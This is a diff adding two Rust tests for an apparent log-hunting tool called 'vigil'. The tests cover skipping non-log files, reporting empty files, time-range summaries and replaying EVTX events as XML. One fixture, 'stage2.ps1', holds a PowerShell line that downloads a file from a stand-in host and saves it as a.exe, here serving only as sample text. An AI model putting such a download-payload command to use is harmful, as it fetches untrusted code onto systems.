@@ -201,3 +201,60 @@ fn raw_event_results_carry_file_and_record() {
         assert_eq!(r["record"], r["EventRecordID"], "{r}");
     }
 }
+
+/// Files that are not logs are recognised by content and skipped with one line; an empty file
+/// is named; a time range says how many events fell before and after it.
+#[test]
+fn non_logs_and_empty_files_are_reported() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let sample = std::fs::read(repo().join("samples/sysmon_msiexec.xml")).expect("sample");
+    std::fs::write(dir.path().join("sysmon.log"), &sample).expect("write");
+    std::fs::write(dir.path().join("shot.dat"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0").expect("write");
+    std::fs::write(dir.path().join("capture.bin"), b"\xd4\xc3\xb2\xa1\x02\0\x04\0\0\0\0\0").expect("write");
+    std::fs::write(dir.path().join("stage2.ps1"), "$u = 'http://x/a'\nInvoke-WebRequest $u -OutFile a.exe\n").expect("write");
+    std::fs::write(dir.path().join("empty.log"), "").expect("write");
+    let path = dir.path().to_string_lossy().into_owned();
+    let o = vigil(&["hunt", &path]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let err = stderr(&o);
+    assert!(err.contains("3 files not read, not logs (image: 1, packet capture: 1, text without events: 1)"), "{err}");
+    assert!(err.contains("1 file with no events (empty or zero records):") && err.contains("empty.log"), "{err}");
+    assert!(err.contains("0 skipped; 1 detection run, 2 results"), "{err}");
+    let o = vigil(&["hunt", "--earliest", "2026-11-20T10:16:00Z", "--latest", "2026-11-20T10:19:00Z", &path]);
+    let err = stderr(&o);
+    assert!(err.contains("6 events outside it (1 before, 5 at or after)"), "{err}");
+    assert!(err.contains("the events span 2026-11-20T10:15:01"), "{err}");
+}
+
+/// `replay` of an EVTX file writes XML lines that read back as the same events, shifted.
+#[test]
+fn replay_writes_evtx_as_xml_lines() {
+    let Some(shared) = shared() else {
+        eprintln!("skipped: ../shared/data/real not present");
+        return;
+    };
+    let evtx = shared.join("data/real/evtx/sysmon.evtx");
+    let dir = tempfile::tempdir().expect("temp dir");
+    let out = dir.path().join("sysmon.log");
+    let o = vigil(&[
+        "replay",
+        evtx.to_str().unwrap(),
+        "--source",
+        "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
+        "--sourcetype",
+        "XmlWinEventLog",
+        "--shift-to",
+        "2026-01-31T12:00:00Z",
+        "-o",
+        out.to_str().unwrap(),
+    ]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let count = |p: &str| {
+        let o = vigil(&["search", "--format", "csv", "EventCode=1 | stats count max(_time) as latest", p]);
+        stdout(&o).lines().nth(1).unwrap_or_default().to_string()
+    };
+    let original = count(evtx.to_str().unwrap());
+    let replayed = count(out.to_str().unwrap());
+    assert_eq!(original.split(',').nth(1), replayed.split(',').nth(1), "same events");
+    assert!(replayed.ends_with(",1769860800"), "{replayed}");
+}
